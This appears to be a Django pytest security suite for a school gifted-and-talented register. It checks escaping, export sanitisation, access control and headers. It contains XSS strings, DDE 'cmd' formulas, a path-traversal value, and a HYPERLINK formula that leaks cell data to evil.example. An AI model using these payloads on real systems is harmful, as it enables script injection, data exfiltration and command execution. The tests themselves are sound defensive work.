"""The G&T register attacked as a hostile user or a hostile file would: stored XSS on every page,
formula injection in every export, IDOR on every route and API operation, hostile uploads, the
audit trail, and the headers on responses that carry pupil-level data.

A test that exposes a real bug is ``xfail(strict=True)`` with the bug in its reason: fix the bug
and the test passes, which makes it fail as XPASS until the marker is removed.
"""

import csv
import io
import re
import struct
import zipfile
from datetime import date, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from risingtide.api.models import ApiToken
from risingtide.audit.models import AuditEvent
from risingtide.register import exports, import_steps, services
from risingtide.register.equity import equity_chart, equity_check
from risingtide.register.import_batches import ColumnMapping, ImportBatch
from risingtide.register.models import (
    Attainment,
    CharacteristicChange,
    DataSharingAgreement,
    Evidence,
    Pupil,
    RegisterEntry,
    academic_year,
)
from risingtide.register.tasks import check_import, write_import
from risingtide.register.tests import ctf_files, tabular_files
from risingtide.register.upn import make_upn

pytestmark = pytest.mark.django_db

# --- payloads and what must never reach a page unescaped ----------------------------------------

SCRIPT = "<script>alert('xss')</script>"
ATTR = '"><img src=x onerror=alert(1)>'
SVG = "<svg onload=alert()>"  # 20 characters: fits the shortest text columns
JS = "javascript:alert(3)"
PAYLOADS = (SCRIPT, ATTR, SVG, JS)
_LIVE = re.compile(
    r"<script>alert|<img src=x|<svg onload|"
    r"(?:href|src|action|formaction|xlink:href)\s*=\s*[\"']?\s*javascript:",
    re.IGNORECASE,
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_inert(text: str, where: str = "") -> None:
    """No payload is live markup (escaped text is fine)."""
    found = _LIVE.search(text)
    assert found is None, (
        f"unescaped payload in {where}: …{text[max(0, found.start() - 80) : found.end() + 80]}…"
    )


def _api(user) -> Client:
    _, token = ApiToken.issue(user, "security test")
    client = Client(HTTP_AUTHORIZATION=f"Bearer {token}")
    client.defaults["wsgi.url_scheme"] = "https"
    return client


def _call(client, method: str, path: str, body=None):
    return getattr(client, method)(
        f"/api/v1{path}", body, content_type="application/json", secure=True
    )


def _hostile_world(world) -> dict:
    """Put a payload into every text the register shows: names, evidence, reasons, measures,
    attainment, changes, agreements, import file names, headers, errors, changes and CTF facts,
    audit details, school and LA names, and a teacher's own name."""
    own = world.schools["own"]
    own.name = f"Own {ATTR}"
    own.save(update_fields=["name"])
    own.local_authority.name = f"LA {SCRIPT}"
    own.local_authority.save(update_fields=["name"])
    teacher = world.users["teacher@own"]
    teacher.first_name, teacher.last_name = ATTR, SCRIPT
    teacher.save(update_fields=["first_name", "last_name"])
    teacher = world.user("teacher@own")

    record = world.records["own"]
    Pupil.objects.filter(pk=record.pk).update(
        legal_surname=SCRIPT, legal_forename=ATTR, preferred_forename=SVG, ethnic_group=SVG
    )
    record.refresh_from_db()
    Pupil.objects.filter(pk=world.records["2@own"].pk).update(preferred_surname=JS)
    # A nomination through the service, by a teacher whose own name is hostile.
    services.nominate(teacher, record, domains=["music"], summary=f"{SCRIPT}\n{ATTR}")
    # Ranked evidence with a hostile measure for three pupils: "own" tops the screening list.
    lead = world.user("leading_teacher@own")
    for key, score in (("own", 140), ("2@own", 100), ("own2", 90)):
        services.add_evidence(
            lead,
            world.records[key],
            kind="test_score",
            summary=SVG,
            measure=ATTR,
            score=score,
            domain="maths",
        )
    Attainment.objects.create(
        pupil=record, stage="KS2", subject=ATTR, component=SVG, method="TT", result=SVG, year=2023
    )
    CharacteristicChange.objects.create(
        pupil=record,
        kind="ethnicity",
        old_value=SVG,
        new_value=SVG,
        changed_on=date(2025, 1, 1),
        source=SCRIPT,
    )
    RegisterEntry.objects.create(
        pupil=world.records["2@own"],
        school=own,
        academic_year=academic_year(),
        status="nominated",
        domains=["maths"],
        reason=SCRIPT,
        recorded_by_name=ATTR,
        source=SVG,
    )
    DataSharingAgreement.objects.create(school=own, reference=ATTR, starts_on=date(2021, 1, 1))
    DataSharingAgreement.objects.create(school=own, reference=SCRIPT, starts_on=date(2022, 1, 1))

    preview = world.imports["own"]
    ImportBatch.objects.filter(pk=preview.pk).update(
        file_name=f"{SCRIPT}.xml",
        summary={
            "error_count": 1,
            "creates": 0,
            "updates": 1,
            "unchanged": 0,
            "errors": [{"row": 2, "upn": SVG, "field": ATTR, "reason": SCRIPT}],
            "changes": [
                {"row": 3, "upn": SVG, "name": SCRIPT, "action": "update", "fields": [ATTR]}
            ],
            "facts": {"version": SVG, "source": SCRIPT, "document_date": ATTR},
        },
    )
    lead_own = world.users["leading_teacher@own"]
    mapping = ImportBatch.objects.create(
        school=own,
        uploaded_by=lead_own,
        file_name=f"{ATTR}.csv",
        sha256="1" * 64,
        format="csv",
        state=ImportBatch.State.MAPPING,
        mapping={"upn": "UPN", "legal_surname": SCRIPT},
        summary={"headers": ["UPN", SCRIPT, ATTR, SVG, JS]},
    )
    failed = ImportBatch.objects.create(
        school=own,
        uploaded_by=lead_own,
        file_name=f"{SVG}.xml",
        sha256="2" * 64,
        format="ctf",
        state=ImportBatch.State.FAILED,
        message=f"The XML is malformed: {SCRIPT}",
    )
    done = ImportBatch.objects.create(
        school=own,
        uploaded_by=lead_own,
        file_name=f"{JS}.csv",
        sha256="3" * 64,
        format="csv",
        state=ImportBatch.State.DONE,
        summary={
            "headers": [SCRIPT],
            "written": {
                "creates": 1,
                "updates": 0,
                "unchanged": 0,
                "error_count": 0,
                "errors": [],
                "changes": [
                    {"row": 2, "upn": SVG, "name": SCRIPT, "action": "create", "fields": []}
                ],
                "facts": {},
            },
        },
    )
    running = ImportBatch.objects.create(
        school=own,
        uploaded_by=lead_own,
        file_name=f"{SCRIPT}.csv",
        sha256="4" * 64,
        format="csv",
        state=ImportBatch.State.CHECKING,
        total=10,
        done=3,
    )
    services.log_access(
        lead_own, "register.exported", own, why=f"Other: {SCRIPT}", target=record, what=ATTR
    )
    services.log_access(lead_own, "import.uploaded", own, why=SVG, file=SCRIPT)
    return {
        "preview": world.imports["own"],
        "mapping": mapping,
        "failed": failed,
        "done": done,
        "running": running,
    }


# --- stored XSS -------------------------------------------------------------------------------


def _pages(world, batches) -> list[tuple[str, str]]:
    own = world.schools["own"].pk
    record, other = world.records["own"].pk, world.records["2@own"].pk
    pages = [
        (name, reverse(name, args=[own]))
        for name in (
            "register:register",
            "register:register_pupils",
            "register:register_screening",
            "register:register_equity",
            "register:register_criteria",
            "register:register_imports",
            "register:register_export",
            "register:register_audit",
            "register:register_sharing",
        )
    ]
    pages += [
        (
            "register?status=nominated",
            reverse("register:register", args=[own]) + "?status=nominated",
        ),
        ("pupils?q=", reverse("register:register_pupils", args=[own]) + "?q=%3Cscript%3Ealert(1)"),
        ("register_pupil", reverse("register:register_pupil", args=[record])),
        ("register_pupil 2", reverse("register:register_pupil", args=[other])),
        ("register_nominate", reverse("register:register_nominate", args=[record])),
    ]
    pages += [
        (f"register_import {state}", reverse("register:register_import", args=[batch.pk]))
        for state, batch in batches.items()
    ]
    pages.append(
        (
            "register_import_progress",
            reverse("register:register_import_progress", args=[batches["running"].pk]),
        )
    )
    return pages


def test_no_stored_payload_is_live_on_any_register_page(world, client_for):
    batches = _hostile_world(world)
    client = client_for(world.user("leading_teacher@own"))
    head = client_for(world.user("head@own"))  # the data-sharing page is the head's
    for name, url in _pages(world, batches):
        response = (head if name == "register:register_sharing" else client).get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert_inert(response.text, name)
    # The payloads were really on the pages, escaped (the test is not vacuous).
    record = client.get(reverse("register:register_pupil", args=[world.records["own"].pk])).text
    assert "&lt;script&gt;alert(" in record and "&quot;&gt;&lt;img src=x" in record
    mapping = client.get(reverse("register:register_import", args=[batches["mapping"].pk])).text
    assert mapping.count("&lt;script&gt;alert(") >= 2  # a header, in every field's choices
    preview = client.get(reverse("register:register_import", args=[batches["preview"].pk])).text
    assert preview.count("&lt;script&gt;alert(") >= 3  # file name, error, change, CTF source
    equity = client.get(reverse("register:register_equity", args=[world.schools["own"].pk])).text
    assert "&lt;svg onload=alert()&gt;" in equity  # the ethnic group, in the chart and table
    screening = client.get(
        reverse("register:register_screening", args=[world.schools["own"].pk])
    ).text
    assert "&quot;&gt;&lt;img src=x" in screening  # the measure, in the reasons


def test_the_equity_chart_svg_escapes_every_label(world):
    _hostile_world(world)
    school = world.schools["own"]
    school.refresh_from_db()
    report = equity_check(school, services.criteria_for(school))
    chart = str(equity_chart(report, prefix='x"><script>alert(1)</script>'))
    assert_inert(chart, "equity chart")
    assert "&lt;svg onload=alert()&gt;" in chart and "&quot;&gt;&lt;img" in chart  # group, title


def test_form_errors_echo_hostile_input_escaped(world, client_for):
    """Every form that re-renders what was typed after an error."""
    school = world.schools["own"].pk
    record = world.records["own"].pk
    client = client_for(world.user("leading_teacher@own"))
    mapping_batch = ImportBatch.objects.create(
        school=world.schools["own"],
        uploaded_by=world.users["leading_teacher@own"],
        file_name="p.csv",
        sha256="5" * 64,
        format="csv",
        state=ImportBatch.State.MAPPING,
        summary={"headers": ["UPN"]},
    )
    posts = [
        (
            "register:register_evidence",
            [record],
            {"kind": "", "summary": SCRIPT, "measure": ATTR, "score": SVG},
        ),
        (
            "register:register_decide",
            [record],
            {"status": SCRIPT, "reason": ATTR, "next_review": SVG},
        ),
        (
            "register:register_nominate",
            [record],
            {"summary": SCRIPT, "kind": ATTR, "domains": [SVG]},
        ),
        (
            "register:register_leaver_ctf",
            [record],
            {"why": "transfer", "dest_la": ATTR, "dest_estab": SCRIPT},
        ),
        ("register:register_leaver_ctf", [record], {"why": SCRIPT}),
        (
            "register:register_sharing",
            [school],
            {"reference": SCRIPT, "starts_on": ATTR, "ends_on": SVG},
        ),
        ("register:register_sharing", [school], {"end": ATTR}),
        (
            "register:register_criteria",
            [school],
            {"top_percent": SCRIPT, "progress_threshold": ATTR},
        ),
        ("register:register_export", [school], {"what": ATTR, "why": "other", "why_other": SCRIPT}),
        ("register:register_imports", [school], {"format": ATTR, "kind": SCRIPT}),
        (
            "register:register_import_mapping",
            [mapping_batch.pk],
            {"map_upn": SCRIPT, "map_gender": ATTR},
        ),
    ]
    head = client_for(world.user("head@own"))  # the data-sharing page is the head's
    for name, args, data in posts:
        response = (head if name == "register:register_sharing" else client).post(
            reverse(name, args=args), data
        )
        assert response.status_code == 400, (name, response.status_code)
        assert_inert(response.text, name)


def test_a_hostile_pupil_name_is_inert_in_the_nomination_message(world, client_for):
    _hostile_world(world)
    client = client_for(world.user("teacher@own"))
    response = client.post(
        reverse("register:register_nominate", args=[world.records["own"].pk]),
        {"summary": "Strong", "domains": ["art"]},
        follow=True,
    )
    assert response.status_code == 200 and "is nominated" in response.text
    assert_inert(response.text, "flash message")


def test_the_api_answers_hostile_text_as_json_never_html(world):
    _hostile_world(world)
    client = _api(world.user("leading_teacher@own"))
    own = world.schools["own"].pk
    for path in (
        f"/schools/{own}/pupils",
        f"/schools/{own}/register",
        f"/pupils/{world.records['own'].pk}",
        f"/imports/{world.imports['own'].pk}",
    ):
        response = _call(client, "get", path)
        assert response.status_code == 200, path
        assert response["Content-Type"].startswith("application/json"), path
        assert response["X-Content-Type-Options"] == "nosniff"
    assert (
        SCRIPT in _call(client, "get", f"/pupils/{world.records['own'].pk}").json()["legal_surname"]
    )


def test_the_register_pdf_page_escapes_hostile_text(world):
    _hostile_world(world)
    school = world.schools["own"]
    school.refresh_from_db()
    html = exports.register_html(school, academic_year(), exports.register_rows(school))
    assert_inert(html, "register PDF")
    assert "&lt;script&gt;alert(" in html


# --- formula injection in exports ------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)


def _formula_pupils(world) -> None:
    school = world.schools["own"]
    year = academic_year()
    for n, text in enumerate(FORMULAS):
        pupil = Pupil.objects.create(
            school=school,
            upn=make_upn(801, 4001, 16, n + 1),
            legal_surname=text,
            legal_forename=text,
            preferred_forename=text,
            date_of_birth=date(2014, 1, n + 1),
            gender="M",
            nc_year="7",
        )
        RegisterEntry.objects.create(
            pupil=pupil,
            school=school,
            academic_year=year,
            status="identified",
            domains=["maths"],
            reason=text,
            recorded_by_name=text,
        )


def _export(client, world, what: str):
    return client.post(
        reverse("register:register_export", args=[world.schools["own"].pk]),
        {"what": what, "why": "review"},
    )


@pytest.mark.parametrize("what", ["census", "csv"])
def test_no_csv_export_cell_can_run_as_a_formula(world, client_for, what):
    _formula_pupils(world)
    response = _export(client_for(world.user("leading_teacher@own")), world, what)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []


def test_no_xlsx_export_cell_is_or_becomes_a_formula(world, client_for):
    from openpyxl import load_workbook

    _formula_pupils(world)
    response = _export(client_for(world.user("leading_teacher@own")), world, "xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    seen = 0
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(
                ("=", "+", "-", "@")
            ):
                seen += 1
                # Typed into Excel again, a quote-prefixed cell stays text.
                assert cell.quotePrefix, (cell.coordinate, cell.value)
    assert seen >= len(FORMULAS)


# --- headers on responses that carry pupil-level data ----------------------------------------

_SAFE_DISPOSITION = re.compile(r'^attachment; filename="[A-Za-z0-9._-]+"$')


@pytest.mark.parametrize("what", ["census", "csv", "xlsx", "pdf"])
def test_exports_are_private_attachments_with_a_safe_file_name(world, client_for, what):
    _hostile_world(world)
    response = _export(client_for(world.user("leading_teacher@own")), world, what)
    assert response.status_code == 200
    assert _SAFE_DISPOSITION.match(response["Content-Disposition"]), response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_leaver_ctf_is_a_private_attachment(world, client_for):
    _hostile_world(world)
    client = client_for(world.user("leading_teacher@own"))
    response = client.post(
        reverse("register:register_leaver_ctf", args=[world.records["own"].pk]),
        {"why": "transfer", "dest_la": "102", "dest_estab": "4002"},
    )
    assert response.status_code == 200
    assert _SAFE_DISPOSITION.match(response["Content-Disposition"])
    assert "no-store" in response["Cache-Control"]
    # The hostile name is XML text in the CTF, never markup.
    assert b"<script>" not in response.content and b"&lt;script&gt;" in response.content


def test_api_reads_of_pupil_data_are_not_cacheable(world):
    client = _api(world.user("leading_teacher@own"))
    response = _call(client, "get", f"/pupils/{world.records['own'].pk}")
    assert response.status_code == 200
    assert "no-store" in response.get("Cache-Control", "")


# --- authorisation: every route and API operation, by id -------------------------------------

# People with no business with "own" school's register, pupils or imports.
OUTSIDERS = (
    "leading_teacher@other",
    "head@other",
    "teacher@other",
    "la_lead@other",
    "pupil@own",
    "pupil@other",
    "provider_staff@own",
    "national_officer@nation",
    "site_admin@site",
    "nobody@nowhere",
)


def _snapshot() -> tuple:
    """Everything a hostile request might change."""
    return (
        list(RegisterEntry.objects.order_by("pk").values_list("pk", "current")),
        list(Evidence.objects.order_by("pk").values_list("pk", "item_id")),
        list(DataSharingAgreement.objects.order_by("pk").values_list("pk", "ends_on")),
        list(ImportBatch.objects.order_by("pk").values_list("pk", "state", "mapping")),
        list(Pupil.objects.order_by("pk").values_list("pk", "legal_surname")),
        list(ColumnMapping.objects.values_list("pk", "mapping")),
    )


def _web_requests(world) -> list[tuple[str, str, dict | None]]:
    """(method, url, POST data) for every register route, aimed at "own" school's objects."""
    own = world.schools["own"].pk
    record = world.records["own"].pk
    batch = world.imports["own"].pk
    agreement = DataSharingAgreement.objects.get(school=world.schools["own"]).pk
    csv_file = SimpleUploadedFile("p.csv", tabular_files.csv_bytes(2, "sims"))
    requests = [("get", reverse(name, args=[own]), None) for name in (
        "register:register", "register:register_pupils", "register:register_screening",
        "register:register_equity", "register:register_criteria", "register:register_imports",
        "register:register_export", "register:register_audit", "register:register_sharing",
    )]  # fmt: skip
    requests += [
        ("get", reverse("register:register_pupil", args=[record]), None),
        ("get", reverse("register:register_nominate", args=[record]), None),
        ("get", reverse("register:register_import", args=[batch]), None),
        ("get", reverse("register:register_import_progress", args=[batch]), None),
        ("post", reverse("register:register_criteria", args=[own]), {"top_percent": "1",
         "progress_threshold": "0", "equity_fraction": "0.1", "min_group_size": "1"}),
        ("post", reverse("register:register_imports", args=[own]), {"file": csv_file}),
        ("post", reverse("register:register_export", args=[own]), {"what": "csv", "why": "review"}),
        ("post", reverse("register:register_sharing", args=[own]), {"end": str(agreement)}),
        ("post", reverse("register:register_sharing", args=[own]),
         {"reference": "MINE", "starts_on": "2020-01-01"}),
        ("post", reverse("register:register_nominate", args=[record]),
         {"summary": "x", "domains": ["maths"]}),
        ("post", reverse("register:register_evidence", args=[record]),
         {"kind": "test_score", "summary": "x"}),
        ("post", reverse("register:register_decide", args=[record]),
         {"status": "removed", "reason": "x"}),
        ("post", reverse("register:register_leaver_ctf", args=[record]), {"why": "transfer"}),
        ("post", reverse("register:register_import_mapping", args=[batch]), {"map_upn": "UPN"}),
        ("post", reverse("register:register_import_confirm", args=[batch]), {}),
        ("post", reverse("register:register_import_cancel", args=[batch]), {}),
    ]  # fmt: skip
    return requests


def _send(client, method: str, url: str, data: dict | None):
    return getattr(client, method)(url, data) if data is not None else getattr(client, method)(url)


_PUPIL_READS = (
    "register.viewed",
    "register.pupils_viewed",
    "register.screening_viewed",
    "register.equity_viewed",
    "register.exported",
    "register.api_read",
    "pupil_record.viewed",
)


@pytest.mark.parametrize("who", OUTSIDERS)
def test_outsiders_reach_no_register_route(world, client_for, who):
    user = world.user(who)
    client = client_for(user)
    before = _snapshot()
    for method, url, data in _web_requests(world):
        response = _send(client, method, url, data)
        assert response.status_code in (403, 404), (who, method, url, response.status_code)
        assert "Content-Disposition" not in response
    assert _snapshot() == before
    assert not AuditEvent.objects.filter(actor=user, action__in=_PUPIL_READS).exists()


def test_signed_out_visitors_are_sent_to_sign_in(world):
    client = Client()
    before = _snapshot()
    for method, url, data in _web_requests(world):
        response = getattr(client, method)(url, data or {}, secure=True)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("people:login")), url
    assert _snapshot() == before


def test_a_teacher_reaches_only_their_groups_records_and_no_register_wide_page(world, client_for):
    user = world.user("teacher@own")
    client = client_for(user)
    before = _snapshot()
    for method, url, data in _web_requests(world):
        if "/register/pupils/" in url and (
            "nominate" in url or url.endswith(f"/{world.records['own'].pk}/")
        ):
            continue  # their own group's pupil: nominating and reading are theirs to do
        if "/evidence/" in url:
            continue
        response = _send(client, method, url, data)
        assert response.status_code in (403, 404), (method, url, response.status_code)
    assert _snapshot() == before
    for key in ("own2", "other"):  # another group's pupil, another school's
        url = reverse("register:register_pupil", args=[world.records[key].pk])
        assert client.get(url).status_code == 404


@pytest.mark.parametrize("who", ["la_lead@own", "teacher@own"])
def test_view_only_staff_cannot_change_anything(world, client_for, who):
    """An LA lead under an agreement reads own's register; a teacher nominates their pupils;
    neither manages, decides, exports, shares or imports."""
    client = client_for(world.user(who))
    before = _snapshot()
    for method, url, data in _web_requests(world):
        if method != "post":
            continue
        if who == "teacher@own" and ("/nominate/" in url or "/evidence/" in url):
            continue  # their own group's pupil: theirs to nominate
        response = client.post(url, data)
        assert response.status_code in (403, 404), (who, url, response.status_code)
    assert _snapshot() == before


def test_an_la_without_an_agreement_sees_no_pupil_data(world, client_for):
    """Not "other" (no agreement), not "peer" in its own LA (no agreement), not "own" once its
    agreement has ended or before one starts."""
    other = client_for(world.user("la_lead@other"))
    own_la = client_for(world.user("la_lead@own"))
    for client, key in ((other, "other"), (own_la, "peer")):
        school = world.schools[key].pk
        for name in (
            "register:register",
            "register:register_pupils",
            "register:register_screening",
            "register:register_equity",
        ):
            assert client.get(reverse(name, args=[school])).status_code == 404, (key, name)
    assert (
        other.get(reverse("register:register_pupil", args=[world.records["other"].pk])).status_code
        == 404
    )
    url = reverse("register:register_pupil", args=[world.records["own"].pk])
    assert own_la.get(url).status_code == 200
    services.end_agreement(
        world.user("head@own"), DataSharingAgreement.objects.get(school=world.schools["own"])
    )
    assert own_la.get(url).status_code == 404
    DataSharingAgreement.objects.create(
        school=world.schools["own"],
        reference="LATER",
        starts_on=timezone.localdate() + timedelta(days=1),
    )
    assert own_la.get(url).status_code == 404
    api = _api(world.user("la_lead@own"))
    assert _call(api, "get", f"/pupils/{world.records['own'].pk}").status_code == 404
    assert _call(api, "get", f"/schools/{world.schools['own'].pk}/pupils").status_code == 404


def _api_requests(world) -> list[tuple[str, str, dict | None]]:
    own = world.schools["own"].pk
    record = world.records["own"].pk
    batch = world.imports["own"].pk
    return [
        ("get", f"/schools/{own}/pupils", None),
        ("get", f"/schools/{own}/register", None),
        ("get", f"/pupils/{record}", None),
        ("post", f"/pupils/{record}/nominations", {"domains": ["maths"], "summary": "x"}),
        ("post", f"/pupils/{record}/evidence", {"kind": "test_score", "summary": "x"}),
        ("post", f"/pupils/{record}/decisions", {"status": "removed", "reason": "x"}),
        ("get", f"/imports/{batch}", None),
        ("post", f"/imports/{batch}/mapping", {"mapping": {"upn": "UPN"}}),
        ("post", f"/imports/{batch}/confirm", {}),
        ("post", f"/imports/{batch}/cancel", {}),
    ]


@pytest.mark.parametrize("who", OUTSIDERS)
def test_outsiders_reach_no_register_api_operation(world, who):
    user = world.user(who)
    client = _api(user)
    before = _snapshot()
    for method, path, body in _api_requests(world):
        response = _call(client, method, path, body)
        assert response.status_code in (403, 404), (who, method, path, response.status_code)
    upload = client.post(
        f"/api/v1/schools/{world.schools['own'].pk}/imports",
        {"file": SimpleUploadedFile("p.csv", tabular_files.csv_bytes(2, "sims"))},
        secure=True,
    )
    assert upload.status_code in (403, 404), (who, upload.status_code)
    assert _snapshot() == before
    assert not AuditEvent.objects.filter(actor=user, action__in=_PUPIL_READS).exists()


def test_the_api_refuses_the_signed_out(world):
    client = Client()
    for method, path, body in _api_requests(world):
        response = _call(client, method, path, body)
        assert response.status_code in (401, 403), (method, path, response.status_code)


def test_ending_another_schools_agreement_by_id_is_refused(world, client_for):
    theirs = DataSharingAgreement.objects.create(
        school=world.schools["other"], reference="THEIRS", starts_on=date(2020, 1, 1)
    )
    client = client_for(world.user("head@own"))
    url = reverse("register:register_sharing", args=[world.schools["own"].pk])
    for raw in (str(theirs.pk), f" {theirs.pk}", f"{theirs.pk}.0", "-1", "9" * 30, "1e3", ""):
        response = client.post(url, {"end": raw})
        assert response.status_code in (302, 400), (raw, response.status_code)
    theirs.refresh_from_db()
    assert theirs.ends_on is None
    # ... and their sharing page is not the head's to reach at all.
    other_url = reverse("register:register_sharing", args=[world.schools["other"].pk])
    assert client.post(other_url, {"end": str(theirs.pk)}).status_code == 404


def test_evidence_cannot_point_at_another_pupils_or_schools_item(world, client_for):
    lead = world.user("leading_teacher@own")
    client = client_for(lead)
    record = world.records["own"]
    for key in ("own2", "other"):  # another pupil's item at the school; another school's
        item = world.items[key]
        for name, data in (
            (
                "register:register_evidence",
                {"kind": "work_scrutiny", "summary": "Good", "item": item.pk},
            ),
            (
                "register:register_nominate",
                {"summary": "Good", "domains": ["art"], "item": item.pk},
            ),
        ):
            client.post(reverse(name, args=[record.pk]), data)
    assert not Evidence.objects.filter(
        item__in=[world.items["own2"], world.items["other"]]
    ).exists()
    api = _api(lead)
    for key in ("own2", "other"):
        for path, body in (
            (
                "evidence",
                {"kind": "work_scrutiny", "summary": "Good", "item_id": world.items[key].pk},
            ),
            (
                "nominations",
                {"domains": ["art"], "summary": "Good", "item_id": world.items[key].pk},
            ),
        ):
            response = _call(api, "post", f"/pupils/{record.pk}/{path}", body)
            assert response.status_code == 400, (key, path, response.status_code)
            assert "item_id" in response.json()["errors"]
    assert not Evidence.objects.filter(
        item__in=[world.items["own2"], world.items["other"]]
    ).exists()
    # The pupil's own item is accepted: the refusals above are about whose it is.
    own_item = {"kind": "work_scrutiny", "summary": "Good", "item_id": world.items["own"].pk}
    ok = _call(api, "post", f"/pupils/{record.pk}/evidence", own_item)
    assert ok.status_code == 201


@pytest.mark.parametrize("kind", ["test_score", "work_scrutiny", "x_nomination", "", "progress"])
def test_a_nomination_must_be_a_nomination(world, client_for, kind):
    record = world.records["2@own"]
    before = Evidence.objects.count(), RegisterEntry.objects.count()
    client = client_for(world.user("teacher@own"))
    response = client.post(
        reverse("register:register_nominate", args=[record.pk]),
        {"summary": "x", "domains": ["maths"], "kind": kind},
    )
    # A blank kind means the default, a teacher's nomination; anything else is refused.
    assert response.status_code == (302 if kind == "" else 400)
    api = _call(
        _api(world.user("teacher@own")),
        "post",
        f"/pupils/{record.pk}/nominations",
        {"domains": ["maths"], "summary": "x", "kind": kind},
    )
    assert api.status_code == 400
    if kind:
        assert (Evidence.objects.count(), RegisterEntry.objects.count()) == before


def test_huge_and_malformed_ids_answer_404_or_400_never_500(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    huge = "9" * 25
    for url in (
        f"/register/pupils/{huge}/",
        f"/register/imports/{huge}/",
        f"/schools/{huge}/register/",
    ):
        assert client.get(url).status_code == 404, url
    api = _api(world.user("leading_teacher@own"))
    assert _call(api, "get", f"/pupils/{huge}").status_code in (404, 422)
    response = _call(
        api,
        "post",
        f"/pupils/{world.records['own'].pk}/evidence",
        {"kind": "work_scrutiny", "summary": "x", "item_id": int(huge)},
    )
    assert response.status_code in (400, 422)
    evidence = client.post(
        reverse("register:register_evidence", args=[world.records["own"].pk]),
        {"kind": "work_scrutiny", "summary": "x", "item": huge, "score": "1e400"},
    )
    assert evidence.status_code == 400


def test_a_cluster_lead_coordinates_the_cluster_schools_but_cannot_share_their_data(
    world, client_for
):
    """Policy: a cluster's leading teacher is the G&T coordinator of every school in it
    (domain.md: schools that share one leading teacher), so reaches their registers; only a
    school's head records a data-sharing agreement that opens its pupils to the LA."""
    peer = world.schools["peer"].pk
    client = client_for(world.user("leading_teacher@cluster"))
    assert client.get(reverse("register:register", args=[peer])).status_code == 200
    response = client.post(
        reverse("register:register_sharing", args=[peer]),
        {"reference": "X", "starts_on": "2020-01-01"},
    )
    assert response.status_code == 403
    assert not DataSharingAgreement.objects.filter(school_id=peer).exists()


# --- the import journey, attacked --------------------------------------------------------------


def _upload(client, school, name: str, data: bytes, **fields):
    return client.post(
        reverse("register:register_imports", args=[school.pk]),
        {"file": SimpleUploadedFile(name, data), **fields},
    )


def _checked_csv(world, client, rows: int = 3) -> ImportBatch:
    """A CSV uploaded, mapped (its guessed mapping) and checked: a preview without errors."""
    school = world.schools["own"]
    assert (
        _upload(client, school, "pupils.csv", tabular_files.csv_bytes(rows, "sims")).status_code
        == 302
    )
    batch = ImportBatch.objects.filter(school=school).latest("pk")
    data = {f"map_{k}": v for k, v in batch.mapping.items()}
    assert (
        client.post(reverse("register:register_import_mapping", args=[batch.pk]), data).status_code
        == 302
    )
    assert check_import.call(batch.pk) == "checked"
    batch.refresh_from_db()
    assert batch.state == "preview" and batch.error_count == 0
    return batch


def test_a_mapping_naming_headers_not_in_the_file_is_refused(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    _upload(client, school, "pupils.csv", tabular_files.csv_bytes(2, "sims"))
    batch = ImportBatch.objects.filter(school=school).latest("pk")
    good = {f"map_{k}": v for k, v in batch.mapping.items()}
    saved = list(ColumnMapping.objects.values_list("mapping", flat=True))
    for field, header in (
        ("upn", "Not A Column"),
        ("upn", "upn "),  # near, not exact
        ("legal_surname", "../../etc/passwd"),
        ("gender", SCRIPT),
    ):
        response = client.post(
            reverse("register:register_import_mapping", args=[batch.pk]),
            {**good, f"map_{field}": header},
        )
        assert response.status_code == 400, header
        assert_inert(response.text)
    batch.refresh_from_db()
    assert batch.state == "mapping"
    assert list(ColumnMapping.objects.values_list("mapping", flat=True)) == saved
    # Through the API: an unknown field, a header of another file.
    api = _api(world.user("leading_teacher@own"))
    for mapping in ({**batch.mapping, "is_admin": "UPN"}, {**batch.mapping, "upn": "Surname0"}):
        response = _call(api, "post", f"/imports/{batch.pk}/mapping", {"mapping": mapping})
        assert response.status_code == 400
    batch.refresh_from_db()
    assert batch.state == "mapping"


def _write_tasks() -> int:
    from django_tasks_db.models import DBTaskResult

    return DBTaskResult.objects.filter(task_path__endswith="write_import").count()


def test_confirming_twice_writes_once(world, client_for, django_capture_on_commit_callbacks):
    client = client_for(world.user("leading_teacher@own"))
    batch = _checked_csv(world, client)
    url = reverse("register:register_import_confirm", args=[batch.pk])
    api = _api(world.user("head@own"))
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(url)
        second = client.post(url)
        third = _call(api, "post", f"/imports/{batch.pk}/confirm", {})
    assert first.status_code == second.status_code == 302
    assert third.status_code == 400
    assert _write_tasks() == 1
    assert AuditEvent.objects.filter(action="import.confirmed").count() == 1
    assert write_import.call(batch.pk) == "written"
    assert write_import.call(batch.pk) == "nothing to do"  # a task run twice
    created = Pupil.objects.filter(school=world.schools["own"]).count()
    assert client.post(url).status_code == 302  # after it is done
    assert Pupil.objects.filter(school=world.schools["own"]).count() == created
    # ... nor can a done import be cancelled or re-mapped.
    assert (
        client.post(reverse("register:register_import_cancel", args=[batch.pk])).status_code == 302
    )
    batch.refresh_from_db()
    assert batch.state == "done"


